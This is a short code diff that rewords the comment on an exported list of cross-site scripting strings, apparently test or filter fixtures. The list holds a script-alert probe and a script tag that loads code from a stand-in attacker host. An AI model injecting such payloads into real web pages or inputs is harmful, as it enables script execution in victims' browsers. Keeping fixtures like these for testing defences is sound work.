@@ -1,4 +1,4 @@
-/** Markup with which people have tried to run something in somebody else's browser. */
+/** Markup from known attempts to run script in another person's browser. */
 export const attacks: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
